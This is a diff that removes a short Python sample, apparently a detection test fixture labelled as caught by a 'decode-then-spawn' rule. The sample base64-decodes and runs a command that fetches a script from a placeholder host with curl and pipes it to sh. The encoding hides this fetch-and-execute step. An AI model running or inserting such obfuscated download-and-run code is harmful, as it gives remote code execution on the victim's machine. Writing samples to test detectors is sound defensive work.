@@ -1,3 +1,0 @@
-# evades: caught by execution/decode-then-spawn
-import base64, os
-os.system(base64.b64decode("Y3VybCAtcyBodHRwczovL2NvZGUuaW52YWxpZC94IHwgc2g=").decode())
